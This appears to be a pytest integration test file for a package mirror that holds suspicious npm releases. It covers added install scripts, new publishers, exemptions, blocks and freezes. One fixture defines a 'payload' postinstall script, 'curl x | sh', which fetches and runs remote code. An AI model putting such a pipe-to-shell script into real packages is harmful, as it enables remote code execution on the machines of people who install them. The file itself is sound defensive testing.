"""npm risk signals through the whole app (`create_app` with a FixedClock) against a fake npm
upstream serving real tarballs: a version that looks different from the package's previous
release is held (or only noted) with the signal named in the packument's notice, the tarball's
403, `GET /{name}/{version}` and explain; a `hold` waits for an exemption; a block still wins."""

from __future__ import annotations

from datetime import timedelta
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from pytest_aiohttp import AiohttpServer

from mirror.services import SERVICES
from tests.fakes.npm import FakeNpmRegistry
from tests.integration.conftest import NOW, OLD, Client, MakeClient

CORGI = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"
ADMIN = "alice-token-0123456789"
SCRIPT_DETAIL = "postinstall script added in 4.2.1; 4.2.0 had none"
PUBLISHER_DETAIL = (
    "1.0.1 was published by mallory, who never published right-pad before (1.0.0 by alice)"
)


@pytest.fixture
async def registry(aiohttp_server: AiohttpServer) -> FakeNpmRegistry:
    registry = FakeNpmRegistry()
    # 4.2.1 is five days old (past the 3-day quarantine) but adds a postinstall script: the
    # built-in rule holds it 14 days from its publish.
    registry.add_version("left-pad", "4.2.0", published=OLD, publisher="alice", provenance=True)
    registry.add_version(
        "left-pad",
        "4.2.1",
        published=NOW - timedelta(days=5),
        publisher="alice",
        provenance=True,
        scripts={"postinstall": "node -e 0", "test": "true"},
    )
    # 1.0.1 is ten days old and published by an account new to the package: noted by default.
    registry.add_version("right-pad", "1.0.0", published=OLD, publisher="alice")
    registry.add_version(
        "right-pad", "1.0.1", published=NOW - timedelta(days=10), publisher="mallory"
    )
    # Laundering: 4.2.1 adds a decoy postinstall (held by the signal), 4.2.2 the payload a
    # minute later; both are compared with 4.2.0, the release established before them.
    registry.add_version("up-pad", "4.2.0", published=OLD, publisher="alice")
    for version, script, minutes in (("4.2.1", "node -e 0", 0), ("4.2.2", "curl x | sh", 1)):
        registry.add_version(
            "up-pad",
            version,
            published=NOW - timedelta(days=5) + timedelta(minutes=minutes),
            publisher="alice",
            scripts={"postinstall": script},
        )
    await registry.start(aiohttp_server)
    return registry


@pytest.fixture
def make_mirror(make_mirror: MakeClient, registry: FakeNpmRegistry) -> MakeClient:
    return partial(
        make_mirror, MIRROR_NPM_UPSTREAM=registry.url, MIRROR_ADMIN_TOKENS=f"alice:{ADMIN}"
    )


async def explain(client: Client, package: str, version: str) -> dict[str, Any]:
    response = await client.get(
        "/api/v1/explain", params={"ecosystem": "npm", "package": package, "version": version}
    )
    assert response.status == 200, await response.text()
    explained: dict[str, Any] = await response.json()
    return explained


async def test_an_added_install_script_is_held_and_named_everywhere(
    client: Client, registry: FakeNpmRegistry
) -> None:
    response = await client.get("/npm/left-pad", headers={"Accept": CORGI})
    assert response.status == 200
    body = await response.json(content_type=None)
    assert list(body["versions"]) == ["4.2.0"]
    assert body["dist-tags"] == {"latest": "4.2.0"}
    notice = response.headers["npm-notice"]
    assert "install-script-added" in notice
    assert SCRIPT_DETAIL in notice
    assert "2026-12-01T10:00Z" in notice  # published + 14 days

    tarball = await client.get("/npm/left-pad/-/left-pad-4.2.1.tgz")
    assert tarball.status == 403
    refusal = await tarball.json()
    assert refusal["reason"] == "quarantined"
    assert SCRIPT_DETAIL in refusal["error"]
    (signal,) = refusal["signals"]
    assert signal["signal"] == "install-script-added"
    assert signal["detail"] == SCRIPT_DETAIL
    assert signal["action"] == "extend"
    assert signal["age"] == "14d"
    assert registry.upstream.count("/left-pad/-/left-pad-4.2.1.tgz") == 0
    refusals = client.app[SERVICES].metrics.registry.get_sample_value(
        "mirror_risk_refusals_total",
        {"ecosystem": "npm", "signal": "install-script-added", "action": "extend"},
    )
    assert refusals == 1

    version = await client.get("/npm/left-pad/4.2.1")
    assert version.status == 404
    assert (await client.get("/npm/left-pad/latest")).status == 200

    explained = await explain(client, "left-pad", "4.2.1")
    assert explained["verdict"] == "quarantined"
    assert [(s["signal"], s["detail"], s["action"]) for s in explained["signals"]] == [
        ("install-script-added", SCRIPT_DETAIL, "extend")
    ]
    # The release before it shows nothing and is served.
    assert (await explain(client, "left-pad", "4.2.0"))["signals"] == []
    served = await client.get("/npm/left-pad/-/left-pad-4.2.0.tgz")
    assert served.status == 200
    assert await served.read() == registry.version("left-pad", "4.2.0").tarball


async def test_an_exemption_of_an_extended_version_lasts_until_the_extension_ends(
    client: Client,
) -> None:
    exempted = await client.post(
        "/api/v1/exemptions",
        json={"ecosystem": "npm", "package": "left-pad", "versions": "4.2.1", "reason": "read it"},
        headers={"Authorization": f"Bearer {ADMIN}"},
    )
    assert exempted.status == 201, await exempted.text()
    assert (await exempted.json())["exemption"]["expires_at"] == "2026-12-01T10:00:00Z"
    assert (await client.get("/npm/left-pad/-/left-pad-4.2.1.tgz")).status == 200


async def test_the_tarball_is_refused_again_from_the_remembered_ref(
    client: Client, registry: FakeNpmRegistry
) -> None:
    """The second request decides from the remembered tarball ref (no parse): it carries the
    signals, so it is refused the same way."""
    for _ in range(2):
        refused = await client.get("/npm/left-pad/-/left-pad-4.2.1.tgz")
        assert refused.status == 403
        assert [s["signal"] for s in (await refused.json())["signals"]] == ["install-script-added"]
    assert registry.upstream.count("/left-pad/-/left-pad-4.2.1.tgz") == 0


async def test_a_noted_signal_only_reports(client: Client, registry: FakeNpmRegistry) -> None:
    response = await client.get("/npm/right-pad")
    body = await response.json()
    assert list(body["versions"]) == ["1.0.0", "1.0.1"]
    assert body["dist-tags"] == {"latest": "1.0.1"}
    served = await client.get("/npm/right-pad/-/right-pad-1.0.1.tgz")
    assert served.status == 200
    assert await served.read() == registry.version("right-pad", "1.0.1").tarball
    explained = await explain(client, "right-pad", "1.0.1")
    assert explained["verdict"] == "allowed"
    assert [(s["signal"], s["detail"], s["action"]) for s in explained["signals"]] == [
        ("new-publisher", PUBLISHER_DETAIL, "note")
    ]


async def test_a_hold_rule_waits_for_an_exemption_and_a_block_still_wins(
    make_mirror: MakeClient, tmp_path: Path
) -> None:
    settings = tmp_path / "mirror.toml"
    settings.write_text(
        '[[risk.rules]]\nsignal = "new-publisher"\necosystem = "npm"\n'
        'package = "right-pad"\naction = "hold"\n',
        encoding="utf-8",
    )
    client = await make_mirror(MIRROR_CONFIG=str(settings))
    tarball = "/npm/right-pad/-/right-pad-1.0.1.tgz"
    body = await (await client.get("/npm/right-pad")).json()
    assert list(body["versions"]) == ["1.0.0"]
    assert body["dist-tags"] == {"latest": "1.0.0"}
    refused = await client.get(tarball)
    assert refused.status == 403
    refusal = await refused.json()
    assert refusal["until"] is None  # only a person lets it out
    assert [(s["signal"], s["action"], s["rule"]) for s in refusal["signals"]] == [
        ("new-publisher", "hold", "settings")
    ]
    assert PUBLISHER_DETAIL in refusal["error"]
    assert (await client.get("/npm/right-pad/1.0.1")).status == 404
    assert (await explain(client, "right-pad", "1.0.1"))["verdict"] == "quarantined"

    auth = {"Authorization": f"Bearer {ADMIN}"}
    rule = {"ecosystem": "npm", "package": "right-pad", "versions": "1.0.1"}
    exempted = await client.post(
        "/api/v1/exemptions",
        json={**rule, "reason": "mallory is our new maintainer"},
        headers=auth,
    )
    assert exempted.status == 201, await exempted.text()
    # Held until a person let it through: the exemption has no end by default.
    assert (await exempted.json())["exemption"]["expires_at"] is None
    assert (await client.get(tarball)).status == 200
    body = await (await client.get("/npm/right-pad")).json()
    assert body["dist-tags"] == {"latest": "1.0.1"}
    explained = await explain(client, "right-pad", "1.0.1")
    assert explained["verdict"] == "exempted"
    assert [s["signal"] for s in explained["signals"]] == ["new-publisher"]

    blocked = await client.post(
        "/api/v1/blocks", json={**rule, "reason": "stolen token"}, headers=auth
    )
    assert blocked.status == 201, await blocked.text()
    refused = await client.get(tarball)
    assert refused.status == 403
    assert (await refused.json())["reason"] == "blocked"
    assert (await explain(client, "right-pad", "1.0.1"))["verdict"] == "blocked"


async def test_a_second_suspicious_release_in_a_row_stays_held(
    client: Client, registry: FakeNpmRegistry
) -> None:
    """The decoy 4.2.1 does not launder the payload 4.2.2: it is held too, by the same signal
    against 4.2.0, and `latest` stays 4.2.0."""
    response = await client.get("/npm/up-pad", headers={"Accept": CORGI})
    assert response.status == 200
    body = await response.json(content_type=None)
    assert list(body["versions"]) == ["4.2.0"]
    assert body["dist-tags"] == {"latest": "4.2.0"}
    assert "2 versions held" in response.headers["npm-notice"]

    tarball = await client.get("/npm/up-pad/-/up-pad-4.2.2.tgz")
    assert tarball.status == 403
    (signal,) = (await tarball.json())["signals"]
    assert signal["signal"] == "install-script-added"
    assert signal["detail"] == "postinstall script added in 4.2.2; 4.2.0 had none"
    assert registry.upstream.count("/up-pad/-/up-pad-4.2.2.tgz") == 0
    assert (await client.get("/npm/up-pad/4.2.2")).status == 404


async def test_an_exemption_under_a_freeze_or_renewed_lasts_until_the_extension_ends(
    client: Client,
) -> None:
    """The extension counts whatever names the decision: a freeze holding the version too,
    or the exemption being renewed."""
    auth = {"Authorization": f"Bearer {ADMIN}"}
    freeze = await client.post(
        "/api/v1/freezes",
        json={
            "ecosystem": "npm",
            "published_after": "2026-11-01T00:00Z",
            "until": "2026-12-10",
            "reason": "worm",
        },
        headers=auth,
    )
    assert freeze.status == 201, await freeze.text()
    assert (await explain(client, "left-pad", "4.2.1"))["rule"]["kind"] == "freeze"
    rule = {"ecosystem": "npm", "package": "left-pad", "versions": "4.2.1", "reason": "read it"}
    for _ in range(2):  # the second renews the first
        exempted = await client.post("/api/v1/exemptions", json=rule, headers=auth)
        assert exempted.status == 201, await exempted.text()
        assert (await exempted.json())["exemption"]["expires_at"] == "2026-12-01T10:00:00Z"
    assert (await explain(client, "left-pad", "4.2.1"))["verdict"] == "exempted"
